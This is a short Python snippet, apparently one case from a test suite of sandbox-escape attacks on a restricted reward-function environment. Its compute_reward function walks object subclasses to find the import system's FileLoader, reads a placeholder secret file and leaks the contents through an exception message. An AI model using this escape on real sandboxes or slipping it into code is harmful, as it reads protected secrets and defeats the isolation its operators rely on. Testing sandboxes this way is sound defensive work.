# attack: the import system's own file loader reads any file
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    for kind in (1).__class__.__base__.__subclasses__():
        if kind.__name__ == "FileLoader":
            raise ValueError(kind("x", "@SECRET@").get_data("@SECRET@").decode())
    return x, {}
